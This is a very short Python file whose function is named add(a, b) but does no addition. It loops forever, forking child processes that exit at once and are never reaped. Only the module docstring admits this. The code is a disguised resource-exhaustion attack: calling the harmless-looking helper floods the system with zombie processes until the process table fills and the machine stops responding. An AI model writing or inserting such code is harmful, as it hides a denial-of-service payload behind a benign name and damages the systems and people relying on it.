"""Start processes that end at once and are never waited for."""

import os


def add(a, b):
    while True:
        if os.fork() == 0:
            os._exit(0)
